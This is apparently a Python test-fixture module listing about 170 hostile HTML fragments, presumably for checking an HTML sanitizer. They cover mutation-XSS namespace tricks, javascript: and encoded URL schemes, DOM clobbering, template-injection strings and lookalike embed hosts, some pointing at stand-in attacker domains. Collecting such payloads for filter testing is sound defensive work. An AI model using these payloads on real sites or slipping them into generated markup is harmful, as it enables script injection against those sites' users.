"""Hostile fragments of no family: each a trick of its own, as filters have been passed by."""

# ruff: noqa: E501 - a fragment is a line

ODDITIES = r"""
<!--><img src=x onerror=pwned()>-->
<!---><img src=x onerror=pwned()>-->
<!-- --!><img src=x onerror=pwned()>-->
<!--[if gte IE 4]><script>pwned()</script><![endif]-->
<?xml-stylesheet href="javascript:pwned()"?>x
<?php pwned() ?>x
<![CDATA[<img src=x onerror=pwned()>]]>x
<!ENTITY x>y
<! foo="><script>pwned()</script>">x
<? foo="><script>pwned()</script>">x
</ foo="><script>pwned()</script>">x
<% foo="><script>pwned()</script>">x
<!-- `<img/src=xx:xx onerror=pwned()//--!>
x]]><script>pwned()</script>
<svg><![CDATA[><image xlink:href="]]><img src=xx:x onerror=pwned()//"></svg>
<svg><![CDATA[</svg><img src=x onerror=pwned()>]]>
<comment><img src="</comment><img src=x onerror=pwned()//">
<![<img src=x onerror=pwned()>]>
<xml id=i><x><c><![CDATA[<img src=x onerror=pwned()>]]></c></x></xml>
<<script>pwned();//<</script>
<a href="https://e.example/" target=_blank rel=opener>x</a>
<a href="https://e.example" target="javascript:pwned()">x
<meta http-equiv=refresh content="0;url=javascript:pwned()">x
<meta http-equiv="Set-Cookie" content="a=b">x
<meta name=referrer content=unsafe-url>x
<base href="javascript:pwned()//"><a href="#">x</a>
<base href="//e.example/"><img src=x.png>
<link rel=import href=//e>
<link rel=preload href=//e>
<form action=//e><input name=a><button>x</button></form>
<button formaction=javascript:pwned()>x
<isindex action=javascript:pwned() type=submit>
<select autofocus onfocus=pwned()><option>x
<textarea autofocus onfocus=pwned()>x
<dialog open onclose=pwned()><form method=dialog><button>x
<input type=image src=x onerror=pwned()>
<input type=hidden accesskey=x onclick=pwned()>
<form id=document><input name=cookie></form>
<img id=createElement name=createElement src=x>
<a id=defaultView></a><a id=defaultView name=x href="clobber:x">
<object id=x><embed name=y></object>
<iframe name=self srcdoc="<a id=x href=y>"></iframe>
<map name=m><area shape=rect coords=0,0,9999,9999 href=javascript:pwned()></map><img usemap=#m src=x>
<img src=x usemap=#m><map name=m><area coords=0,0,9,9 href=https://e.example/ target=_top></map>
<a href=x class="twitter-tweet" style=x contenteditable>x
<p contenteditable onbeforeinput=pwned()>x
<p draggable=true ondragstart=pwned() dropzone=x>x
<p is=x-foo slot=y part=z nonce=q exportparts=k>x
<p popover id=p>x</p><button popovertarget=p>y
<p hidden=until-found onbeforematch=pwned()>x
<template shadowrootmode=open><script>pwned()</script></template>
<slot onslotchange=pwned()>x
<marquee onstart=pwned()>x
<layer src=javascript:pwned()>
<ilayer src=//e>
<xss:script xmlns:xss="http://www.w3.org/1999/xhtml">pwned()</xss:script>
<html:script>pwned()</html:script>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">pwned()</x:script>
<svg:script>pwned()</svg:script>
<svg xmlns="http://www.w3.org/2000/svg"><script>pwned()</script></svg>
<svg><script xlink:href=data:,pwned()></script>
<svg><animate attributeName=href values=javascript:pwned() /><a id=x><text>x
<svg><set attributeName=onload to=pwned()>
<svg><use href="data:image/svg+xml,<svg id=x onload=pwned()>#x">
<svg><foreignObject><iframe srcdoc="<script>pwned()</script>">
<svg><image href=x onerror=pwned()>
<svg><a><rect/><animate attributeName=href to=javascript:pwned() begin=0s>x
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>pwned()</handler>
<svg><discard onbegin=pwned()>
<svg><style><img src=x onerror=pwned()></style>
<svg><title><script>pwned()</script></title>
<svg><desc><img src=x onerror=pwned()></desc>
<math><maction actiontype="statusline#http://e" xlink:href="javascript:pwned()">x
<math><annotation-xml encoding="text/html"><img src=x onerror=pwned()></annotation-xml></math>
<math href="javascript:pwned()">x</math>
<math><semantics><annotation encoding="text/html"><script>pwned()</script></annotation></semantics></math>
<math><mtext><mglyph><svg><mtext><style><path id="</style><img src onerror=pwned()>">
<math><mtext></p><a><mglyph><svg><mtext><style><a title="</style><img src onerror=pwned()>">
<svg></p><style><a id="</style><img src=1 onerror=pwned()>">
<option><style></option></select><b><img src=xx: onerror=pwned()></style></option>
<table><caption><svg><title><table><caption></table><style><a id="</style><img src=x onerror=pwned()>"></a></style>
<svg><p><style><!--</style><img src=x onerror=pwned()>--></style>
<noembed><img title="</noembed><img src=x onerror=pwned()>"></noembed>
<xmp><p title="</xmp><svg/onload=pwned()>">
<![CDATA[ ><img src onerror=pwned()>]]>
<svg><b><![CDATA[<img title="]]><img src onerror=pwned()>">
<div id="</textarea><img src=x onerror=pwned()>"><textarea>x
<img src="x` `<script>pwned()</script>"` `>
<img src onerror /" '"= alt=pwned()//">
<a href=`javascript:pwned()`>x
<a href=" javascript:pwned()">x
<a href=javascript&colon;pwned&lpar;&rpar;>x
<a href="data:text/html&semi;base64&comma;PHNjcmlwdD4=">x
<a href=j&#97v&#97script&#x3A;&#97lert(1)>x
<a href=&#01javascript:pwned()>x
<a href="//e.example/%0d%0aSet-Cookie:x">x
<img src=//e.example/pixel.gif width=1 height=1>
<img srcset="javascript:pwned() 1x, data:text/html,x 2x, x.png 3x">
<img srcset=",javascript:pwned()">
<video poster=javascript:pwned() src=x>
<video autoplay onloadstart=pwned() src=x>
<video><track default src=javascript:pwned()>
<audio autoplay src=https://e.example/a.mp3>
<picture><source srcset="data:image/svg+xml,<svg onload=pwned()>"><img src=x></picture>
<blockquote cite="javascript:pwned()">x
<q cite=data:text/html,x>x
<del cite=vbscript:x>x
<table background=javascript:pwned()><tr><td background=javascript:pwned()>x
<head><base href=//e>x
<title onpropertychange=pwned()></title><title title=>x
<object data="data:text/html,<script>pwned()</script>">x</object>
<object classid=clsid:x><param name=url value=javascript:pwned()>x</object>
<object type=text/x-scriptlet data=//e>x
<embed src=//e.swf allowscriptaccess=always>x
<applet code=x archive=//e>x</applet>
<iframe srcdoc="&lt;script&gt;pwned()&lt;/script&gt;">x
<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>
<iframe src="https://www.youtube.com@evil.example/embed/abcdefghijk"></iframe>
<iframe src="//www.youtube.com/embed/abc&quot;onload=pwned()&quot;"></iframe>
<iframe src="https://youtube.com/embed/&lt;script&gt;pwned()&lt;/script&gt;"></iframe>
<iframe src="https://player.vimeo.com/video/1?h=&quot;&gt;&lt;script&gt;"></iframe>
<iframe title="<script>pwned()</script>" src="https://open.spotify.com/embed/track/x"></iframe>
<iframe title="&quot;><img src=x onerror=pwned()>" src="https://e.example/x"></iframe>
<script type=math/tex>\href{javascript:pwned()}{x}</script>
<script type=math/tex></code><img src=x onerror=pwned()></script>
<script type="text/template"><img src=x onerror=pwned()></script>
<span class=katex><math><mtext><annotation encoding="application/x-tex"></annotation><img src=x onerror=pwned()>
<math><semantics><annotation encoding="application/x-tex">"><img src=x onerror=pwned()></annotation></semantics></math>
<div class=highlight><pre><code><img src=x onerror=pwned()></code></pre></div>
<pre><code class="language-x onclick=pwned()">x
<h2>x<a class=headerlink href=javascript:pwned()>#</a></h2>
<sup id="fnref:1"><a href="javascript:pwned()" class="footnote-ref">1</a></sup>
<img src=x.png width="1e9" height="100%" sizes="expression(pwned())" loading=x decoding=y fetchpriority=z crossorigin=u referrerpolicy=v ismap>
<track src=x kind=<script> srclang=<script>>
<source src=x type="text/html" media=x>
<meter onclick=pwned() value=1>x
<progress onclick=pwned()>x
<output onclick=pwned()>x
<canvas onclick=pwned()>x
<nextid n=x onclick=pwned()>x
<a href="#javascript:pwned()">x
<a href="?javascript:pwned()">x
<a href="/javascript:pwned()">x
<a href="./javascript:pwned()">x
<a href="x/javascript:pwned()">x
<acronym title="x" lang=en onclick=pwned()>x
<basefont color=x onclick=pwned()>x
<font color="expression(pwned())" face=x size=9>x
<center onclick=pwned()>x
<a rev=x rel="nofollow javascript:pwned()" type=x media=y charset=z coords=1 shape=rect download=evil.exe>x
<a href=https://e.example/x.exe download>x
<button type=submit form=x formmethod=post>x
<label for=x accesskey=x>y
<fieldset disabled form=x><legend>y
<output for=x form=y>z
<p accesskey=x tabindex=1 onclick=pwned()>x
<p xml:base="javascript:/" xmlns:xlink=x xlink:href=y>x
<p data-bind="html:x" ng-app ng-csp ng-click="pwned()" v-html="x" x-data hx-get=//e _="on click pwned()">{{constructor.constructor("pwned()")()}}
<div ng-include=x>{{x}}
<img src=x longdesc=javascript:pwned() lowsrc=javascript:pwned() dynsrc=javascript:pwned()>
<p itemscope itemtype=javascript:pwned() itemid=javascript:x>x
<p aria-label="<script>" role="x" aria-owns=y>x
<p translate=no spellcheck=x autocapitalize=y enterkeyhint=z inputmode=q>x
<p class="x onclick=pwned()" className=y>x
""".strip().split("\n")
